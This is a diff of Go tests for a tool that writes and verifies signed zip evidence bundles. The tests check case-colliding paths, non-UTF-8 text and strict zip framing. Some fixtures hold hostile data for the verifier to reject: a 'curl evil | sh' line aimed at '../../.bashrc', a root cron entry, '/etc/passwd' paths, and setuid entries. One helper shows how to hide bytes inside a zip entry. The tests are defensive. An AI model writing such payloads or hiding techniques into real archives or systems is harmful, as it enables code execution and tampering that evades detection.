@@ -26,8 +26,10 @@ func bundleManifest() Manifest {
 		Format: BundleFormat, Version: BundleVersion, Tool: "warroom test",
 		Workload:  review.Workload{Name: "payments", CreatedAt: bundleAt.Add(-90 * 24 * time.Hour)},
 		CreatedAt: bundleAt, CreatedBy: "dana",
+		// No milestone digest: it would need milestone/assessment.json
+		// (TestVerifyBundle_MilestoneDigest).
 		Milestone: review.Milestone{Number: 2, Name: "2026-Q4", CreatedAt: bundleAt.Add(-time.Hour), CreatedBy: "lee",
-			Digest: "sha256:00", Frozen: review.Frozen{AnswersThrough: 12, Answers: 12, Run: "run-1"}},
+			Frozen: review.Frozen{AnswersThrough: 12, Answers: 12, Run: "run-1"}},
 		Evidence: &BundleRun{ID: "run-1", StartedAt: bundleAt.Add(-3 * time.Hour), FinishedAt: bundleAt.Add(-2 * time.Hour),
 			Accounts: []string{"111122223333"}, Regions: []string{"eu-west-1"}},
 	}
@@ -103,6 +105,12 @@ func TestWriteBundle_Layout(t *testing.T) {
 		names = append(names, f.Name)
 		if f.Method != zip.Deflate || !f.Modified.Equal(bundleAt) {
 			t.Errorf("%s: method %d, modified %s; want deflate at %s", f.Name, f.Method, f.Modified, bundleAt)
+		}
+		// What verify requires, as archive/zip's Writer writes it.
+		if f.CreatorVersion != zipMadeBy || f.ReaderVersion != zipVersion20 || f.ExternalAttrs != 0 || f.Flags != flagDataDescriptor ||
+			len(f.Extra) != extTimeLen || extTime(f.Extra) == nil {
+			t.Errorf("%s: made by %#04x, needs %d, attributes %#x, flags %#04x, extra % x", f.Name, f.CreatorVersion, f.ReaderVersion,
+				f.ExternalAttrs, f.Flags, f.Extra)
 		}
 	}
 	want := []string{"answers.json", "empty.txt", "report.html", "report.md", "scenarios/ttx-1/aar.md", "manifest.json", "manifest.sig"}
@@ -195,6 +203,76 @@ func TestWriteBundle_BadPaths(t *testing.T) {
 	}
 	if _, err := WriteBundle(io.Discard, bundleManifest(), bundleFiles(), ed25519.PrivateKey{1, 2}); err == nil {
 		t.Error("a 2-byte signing key was accepted")
+	}
+}
+
+// TestWriteBundle_CaseTwins: WriteBundle refuses paths that verify would
+// flag as differing only in case, its own file names included.
+func TestWriteBundle_CaseTwins(t *testing.T) {
+	for _, tt := range []struct{ path, other string }{
+		{"REPORT.md", "report.md"},
+		{"Manifest.JSON", "manifest.json"},
+		{"MANIFEST.sig", "manifest.sig"},
+		{"scenarios/TTX-1/aar.md", "scenarios/ttx-1/aar.md"},
+	} {
+		files := append(bundleFiles(), BundleFile{Path: tt.path, Data: []byte("x")})
+		_, err := WriteBundle(io.Discard, bundleManifest(), files, nil)
+		a, b := tt.path, tt.other
+		if a > b {
+			a, b = b, a
+		}
+		want := fmt.Sprintf("bundle file %q differs only in case from %q", b, a)
+		if tt.other == ManifestName || tt.other == SignatureName {
+			want = fmt.Sprintf("bundle file %q differs only in case from %q", tt.path, tt.other)
+		}
+		if err == nil || !strings.HasPrefix(err.Error(), want) {
+			t.Errorf("%s: error %v, want %q…", tt.path, err, want)
+		}
+	}
+}
+
+// TestWriteBundle_NotUTF8: manifest text that is not UTF-8 (a workload name
+// stored before warroom refused one, an AWS error message) is written as
+// U+FFFD, so the bundle verifies; before, the bytes verify rebuilt
+// differed and it said the manifest was changed by hand.
+func TestWriteBundle_NotUTF8(t *testing.T) {
+	m := bundleManifest()
+	m.Workload.Name, m.Workload.Owner = "pay\xffx", "team \xe2\x82"
+	m.Evidence.Error = "collect: operation error EC2: DescribeRegions: \xc3("
+	m.Evidence.Accounts = []string{"1111\xff22223333"}
+	var b bytes.Buffer
+	digest, err := WriteBundle(&b, m, bundleFiles(), testKey(1))
+	if err != nil {
+		t.Fatal(err)
+	}
+	v := verify(t, b.Bytes(), pubOf(testKey(1)))
+	if !v.OK() || v.Digest != digest {
+		t.Fatalf("problems\n%s", problems(v))
+	}
+	got := v.Manifest
+	if got.Workload.Name != "pay\ufffdx" || got.Workload.Owner != "team \ufffd\ufffd" ||
+		got.Evidence.Error != "collect: operation error EC2: DescribeRegions: \ufffd(" || got.Evidence.Accounts[0] != "1111\ufffd22223333" {
+		t.Errorf("manifest read back: %+v %+v", got.Workload, got.Evidence)
+	}
+}
+
+// TestWriteBundle_RefusesWhatWouldNotVerify: WriteBundle writes nothing
+// that verify would not read back: a manifest of another format, or a date
+// a zip entry cannot hold.
+func TestWriteBundle_RefusesWhatWouldNotVerify(t *testing.T) {
+	m := bundleManifest()
+	m.Format = ""
+	var b bytes.Buffer
+	if _, err := WriteBundle(&b, m, bundleFiles(), nil); err == nil || b.Len() != 0 ||
+		err.Error() != `the manifest would not verify, so no bundle is written: manifest.json says format "" version 1; this warroom reads "warroom-evidence-bundle" version 1` {
+		t.Errorf("no format: error %v, %d bytes written", err, b.Len())
+	}
+	for _, at := range []time.Time{time.Date(1979, 12, 31, 23, 0, 0, 0, time.UTC), time.Date(2106, 1, 1, 0, 0, 0, 0, time.UTC)} {
+		m := bundleManifest()
+		m.CreatedAt = at
+		if _, err := WriteBundle(io.Discard, m, bundleFiles(), nil); err == nil || !strings.Contains(err.Error(), "outside the years 1980 to 2105") {
+			t.Errorf("dated %s: error %v", at, err)
+		}
 	}
 }
 
@@ -300,6 +378,73 @@ func rezip(t *testing.T, b []byte, edit func(name string, data []byte) ([]byte, 
 }
 
 func keep(_ string, data []byte) ([]byte, bool) { return data, true }
+
+// afterDeflate puts hidden right after the compressed data of entry name,
+// inside it as the zip sees it: the entry's compressed size grows in its
+// data descriptor and central directory record, and every later offset
+// moves. archive/zip still reads the same content.
+func afterDeflate(t *testing.T, b []byte, name, hidden string) []byte {
+	t.Helper()
+	f := zipEntry(t, b, name)
+	off, err := f.DataOffset()
+	if err != nil {
+		t.Fatal(err)
+	}
+	end := off + int64(f.CompressedSize64)
+	n := uint32(len(hidden))
+	out := slices.Concat(b[:end], []byte(hidden), b[end:])
+	le := binary.LittleEndian
+	le.PutUint32(out[end+int64(n)+8:], uint32(f.CompressedSize64)+n) // the descriptor: signature, CRC-32, sizes
+	eocd := len(out) - 22
+	cd := int(le.Uint32(out[eocd+16:])) + int(n)
+	le.PutUint32(out[eocd+16:], uint32(cd))
+	for at := cd; at < eocd; {
+		rec := out[at:]
+		switch local := int64(le.Uint32(rec[42:])); {
+		case local > end:
+			le.PutUint32(rec[42:], uint32(local)+n)
+		case string(rec[46:46+int(le.Uint16(rec[28:]))]) == name:
+			le.PutUint32(rec[20:], le.Uint32(rec[20:])+n)
+		}
+		at += 46 + int(le.Uint16(rec[28:])) + int(le.Uint16(rec[30:])) + int(le.Uint16(rec[32:]))
+	}
+	// archive/zip reads it as before.
+	if got := readAll(t, zipEntry(t, out, name)); !bytes.Equal(got, readAll(t, f)) {
+		t.Fatalf("%s reads otherwise after hiding bytes", name)
+	}
+	return out
+}
+
+// reheader rewrites a bundle as WriteBundle wrote it, but for the header of
+// entry name, which fix changes before the entry is written.
+func reheader(t *testing.T, b []byte, name string, fix func(*zip.FileHeader)) []byte {
+	t.Helper()
+	zr, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var out bytes.Buffer
+	zw := zip.NewWriter(&out)
+	found := false
+	for _, f := range zr.File {
+		fh := &zip.FileHeader{Name: f.Name, Method: zip.Deflate, Modified: bundleAt}
+		if f.Name == name {
+			fix(fh)
+			found = true
+		}
+		w, err := zw.CreateHeader(fh)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write(readAll(t, f)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := zw.Close(); err != nil || !found {
+		t.Fatalf("rewrite %s: %v (found %v)", name, err, found)
+	}
+	return out.Bytes()
+}
 
 // editManifest changes manifest.json through fn and keeps the rest.
 func editManifest(t *testing.T, fn func(*Manifest)) func(string, []byte) ([]byte, bool) {
@@ -518,6 +663,13 @@ func TestVerifyBundle_Unsafe(t *testing.T) {
 	with := func(more ...rawEntry) []rawEntry { return append(cleanEntries(), more...) }
 	escapes := "path escapes the bundle folder: "
 	dotElement := "the path has an empty or . element, which zip tools read differently"
+	// unix is what an entry with a Unix file mode (attrs: the mode in the
+	// high 16 bits) adds: zip tools unpack the mode, so it is framing.
+	unix := func(name string, attrs uint32) string {
+		return fmt.Sprintf("framing %s: the central directory gives external file attributes %#08x (such as a file mode); warroom writes 0\n"+
+			"framing %s: the central directory gives version made by 0x0314 (host system 3), which can carry a Unix file mode; warroom writes 0x0014 (MS-DOS, zip 2.0)\n",
+			name, attrs, name)
+	}
 	tests := []struct {
 		name         string
 		entries      []rawEntry
@@ -525,7 +677,9 @@ func TestVerifyBundle_Unsafe(t *testing.T) {
 		problems     string
 	}{
 		{"as WriteBundle writes it", cleanEntries(), nil, ""},
-		{"an executable file", with(rawEntry{name: "run.sh", data: []byte("echo\n"), mode: 0o755}), nil, ""},
+		// WriteBundle writes no file mode; one that zip tools unpack as
+		// executable is not what it wrote.
+		{"an executable file", with(rawEntry{name: "run.sh", data: []byte("echo\n"), mode: 0o755}), nil, strings.TrimSuffix(unix("run.sh", 0x81ed0000), "\n")},
 		{"parent folders", with(rawEntry{name: "../../.bashrc", data: []byte("curl evil | sh\n")}), nil,
 			"unsafe ../../.bashrc: " + escapes + "it has a .. element"},
 		{"absolute", with(rawEntry{name: "/etc/cron.d/evil", data: []byte("* * * * * root sh\n")}), nil,
@@ -544,21 +698,23 @@ func TestVerifyBundle_Unsafe(t *testing.T) {
 		{"not UTF-8", with(rawEntry{name: "a\xffb", data: []byte("x"), unlisted: true}), nil,
 			"extra a\xffb: in the bundle, not listed in manifest.json\nunsafe a\xffb: the path is not valid UTF-8"},
 		{"a folder", with(rawEntry{name: "docs/"}), nil,
-			"unsafe docs/: entry is a folder\nunsafe docs/: " + dotElement},
+			"framing docs/: the central directory gives flags 0x0000; warroom writes 0x0008 for this name\n" +
+				"framing docs/: the entry has compression method 0; warroom deflates every entry (method 8)\n" +
+				"unsafe docs/: entry is a folder\nunsafe docs/: " + dotElement},
 		{"unlisted", with(rawEntry{name: "../evil", unlisted: true}), nil,
 			"extra ../evil: in the bundle, not listed in manifest.json\nunsafe ../evil: " + escapes + "it has a .. element"},
 		{"listed only", cleanEntries(), []string{"/etc/passwd"},
 			"missing /etc/passwd: listed in manifest.json, not in the bundle\nunsafe /etc/passwd: " + escapes + "it starts with /"},
 		{"symbolic link", with(rawEntry{name: "link", data: []byte("/etc/passwd"), mode: fs.ModeSymlink | 0o777}), nil,
-			"unsafe link: entry is a symbolic link"},
+			unix("link", 0xa1ff0000) + "unsafe link: entry is a symbolic link"},
 		{"setuid", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSetuid | 0o755}), nil,
-			"unsafe tool: entry has the setuid, setgid or sticky bit set (mode urwxr-xr-x)"},
+			unix("tool", 0x89ed0000) + "unsafe tool: entry has the setuid, setgid or sticky bit set (mode urwxr-xr-x)"},
 		{"setgid", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSetgid | 0o755}), nil,
-			"unsafe tool: entry has the setuid, setgid or sticky bit set (mode grwxr-xr-x)"},
+			unix("tool", 0x85ed0000) + "unsafe tool: entry has the setuid, setgid or sticky bit set (mode grwxr-xr-x)"},
 		{"sticky", with(rawEntry{name: "tool", data: []byte("x"), mode: fs.ModeSticky | 0o755}), nil,
-			"unsafe tool: entry has the setuid, setgid or sticky bit set (mode trwxr-xr-x)"},
+			unix("tool", 0x83ed0000) + "unsafe tool: entry has the setuid, setgid or sticky bit set (mode trwxr-xr-x)"},
 		{"named pipe", with(rawEntry{name: "fifo", mode: fs.ModeNamedPipe | 0o644}), nil,
-			"unsafe fifo: entry is not a plain file (mode prw-r--r--)"},
+			unix("fifo", 0x11a40000) + "unsafe fifo: entry is not a plain file (mode prw-r--r--)"},
 		{"names that differ only in case", with(rawEntry{name: "REPORT.md", data: []byte("# Other\n")}), nil,
 			"unsafe REPORT.md: differs only in case from \"report.md\"\nunsafe report.md: differs only in case from \"REPORT.md\""},
 		{"non-ASCII case", with(rawEntry{name: "Ärger.md", data: []byte("a")}, rawEntry{name: "äRGER.md", data: []byte("b")}), nil,
@@ -660,8 +816,7 @@ func TestVerifyBundle_Framing(t *testing.T) {
 		{"data descriptor gives another checksum", edit(func(b []byte) []byte {
 			b[descriptor+4] ^= 0x01
 			return b
-		}), "altered answers.json: cannot be read: zip: checksum error\n" +
-			"framing answers.json: no data descriptor with the central directory's checksum follows the data"},
+		}), "framing answers.json: no data descriptor with the central directory's checksum follows the data"},
 		{"archive comment", func() []byte {
 			b := slices.Clone(signed)
 			comment := "approved by the auditor"
@@ -686,6 +841,76 @@ func TestVerifyBundle_Framing(t *testing.T) {
 			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset))
 			return b
 		}(), "framing (archive): the central directory holds 6 bytes besides its entry records"},
+
+		// The central directory record of answers.json, field by field.
+		{"made by Unix", edit(func(b []byte) []byte {
+			b[cdOffset+5] = 3
+			return b
+		}), "framing answers.json: the central directory gives version made by 0x0314 (host system 3), which can carry a Unix file mode; warroom writes 0x0014 (MS-DOS, zip 2.0)"},
+		{"another version needed in the central directory", edit(func(b []byte) []byte {
+			b[cdOffset+6] = 45
+			return b
+		}), "framing answers.json: the central directory gives version needed to extract 45; warroom writes 20"},
+		{"another version needed in the local header", edit(func(b []byte) []byte {
+			b[4] = 45
+			return b
+		}), "framing answers.json: the local header gives version needed to extract 45; warroom writes 20"},
+		{"another disk", edit(func(b []byte) []byte {
+			b[cdOffset+34] = 1
+			return b
+		}), "framing answers.json: the central directory puts the entry on disk 1; warroom writes 0"},
+		{"internal attributes", edit(func(b []byte) []byte {
+			b[cdOffset+36] = 1 // "text file"
+			return b
+		}), "framing answers.json: the central directory gives internal file attributes 0x0001; warroom writes 0"},
+		{"external attributes", edit(func(b []byte) []byte {
+			b[cdOffset+38] = 0x01 // MS-DOS read-only
+			return b
+		}), "framing answers.json: the central directory gives external file attributes 0x00000001 (such as a file mode); warroom writes 0"},
+		{"the UTF-8 flag on an ASCII name", edit(func(b []byte) []byte {
+			b[7] |= 0x08
+			b[cdOffset+9] |= 0x08
+			return b
+		}), "framing answers.json: the central directory gives flags 0x0808; warroom writes 0x0008 for this name"},
+		{"another extended timestamp in both headers", edit(func(b []byte) []byte {
+			b[30+12+5] += 2 // the low byte of the local header's modification time: 2 s later
+			b[cdOffset+46+12+5] += 2
+			return b
+		}), "framing answers.json: the MS-DOS modification time is not the extended timestamp's (2026-11-03T09:00:02Z), as warroom writes it"},
+		{"another extended timestamp in the local header", edit(func(b []byte) []byte {
+			b[30+12+5] += 2
+			return b
+		}), "framing answers.json: the local header's extended timestamp differs from the central directory's"},
+		{"no data descriptor signature", func() []byte {
+			// manifest.sig is the last entry: its 16-byte descriptor ends
+			// where the central directory starts.
+			b := slices.Concat(signed[:cdOffset-16], signed[cdOffset-12:])
+			binary.LittleEndian.PutUint32(b[len(b)-6:], uint32(cdOffset-4))
+			return b
+		}(), "framing manifest.sig: the data descriptor has no signature, which warroom always writes"},
+		{"a custom extra block", reheader(t, signed, "report.md", func(fh *zip.FileHeader) {
+			fh.Extra = binary.LittleEndian.AppendUint16(binary.LittleEndian.AppendUint16(nil, 0xCAFE), 6000)
+			fh.Extra = append(fh.Extra, bytes.Repeat([]byte("hidden "), 6000/7+1)[:6000]...)
+		}), "framing report.md: the central directory's extra field (6013 bytes) is not what warroom writes: the 9-byte extended timestamp\n" +
+			"framing report.md: the local header's extra field (6013 bytes) is not the one 9-byte extended timestamp warroom writes"},
+		{"a zip64 block that is not needed", reheader(t, signed, "report.md", func(fh *zip.FileHeader) {
+			fh.Extra = binary.LittleEndian.AppendUint16(binary.LittleEndian.AppendUint16(nil, 0x0001), 24)
+			fh.Extra = append(fh.Extra, make([]byte, 24)...)
+		}), "framing report.md: the central directory's extra field (37 bytes) is not what warroom writes: the 9-byte extended timestamp\n" +
+			"framing report.md: the local header's extra field (37 bytes) is not the one 9-byte extended timestamp warroom writes"},
+		{"bytes after a listed file's deflate stream", afterDeflate(t, signed, "report.md", "hidden"),
+			"framing report.md: the compressed data holds 6 bytes after the end of the deflate stream, which warroom does not write and no hash covers"},
+		{"bytes after the manifest's deflate stream", afterDeflate(t, signed, ManifestName, "hidden"),
+			"framing manifest.json: the compressed data holds 6 bytes after the end of the deflate stream, which warroom does not write and no hash covers"},
+		{"bytes after the signature's deflate stream", afterDeflate(t, signed, SignatureName, "hidden"),
+			"framing manifest.sig: the compressed data holds 6 bytes after the end of the deflate stream, which warroom does not write and no hash covers"},
+		{"stored, not deflated", reheader(t, signed, "report.md", func(fh *zip.FileHeader) { fh.Method = zip.Store }),
+			"framing report.md: the entry has compression method 0; warroom deflates every entry (method 8)"},
+		{"no extended timestamp", reheader(t, signed, "report.md", func(fh *zip.FileHeader) {
+			fh.Modified = time.Time{}
+			fh.ModifiedDate, fh.ModifiedTime = msDosTime(bundleAt) // the MS-DOS time only
+		}), "framing report.md: the central directory's extra field (0 bytes) is not what warroom writes: the 9-byte extended timestamp\n" +
+			"framing report.md: the local header's extra field (0 bytes) is not the one 9-byte extended timestamp warroom writes"},
 	}
 	for _, tt := range tests {
 		v, err := VerifyBundle(bytes.NewReader(tt.bundle), int64(len(tt.bundle)), pubOf(testKey(1)))
@@ -868,6 +1093,27 @@ func TestVerifyBundle_MilestoneDigest(t *testing.T) {
 			}
 			return d, true
 		}), "altered milestone/assessment.json: size differs (manifest 38 bytes, file more)"},
+		// Without the file, the digest would pin nothing anyone can check.
+		{"file not in the bundle", func() []byte {
+			m := bundleManifest()
+			m.Milestone.Digest = digest
+			var b bytes.Buffer
+			if _, err := WriteBundle(&b, m, bundleFiles(), testKey(1)); err != nil {
+				t.Fatal(err)
+			}
+			return b.Bytes()
+		}(), "missing milestone/assessment.json: manifest.json gives the milestone digest sha256:" + hex.EncodeToString(sum[:])[:12] +
+			"… but does not list this file, the assessment the digest is of"},
+		{"file removed, manifest edited to match", rezip(t, good, func(name string, d []byte) ([]byte, bool) {
+			if name == AssessmentName {
+				return nil, false
+			}
+			return editManifest(t, func(m *Manifest) {
+				m.Files = slices.DeleteFunc(m.Files, func(f ManifestFile) bool { return f.Path == AssessmentName })
+			})(name, d)
+		}), "signature manifest.sig: the signature does not match manifest.json: the manifest changed after it was signed\n" +
+			"missing milestone/assessment.json: manifest.json gives the milestone digest sha256:" + hex.EncodeToString(sum[:])[:12] +
+			"… but does not list this file, the assessment the digest is of"},
 	}
 	for _, tt := range tests {
 		v := verify(t, tt.bundle, pubOf(testKey(1)))
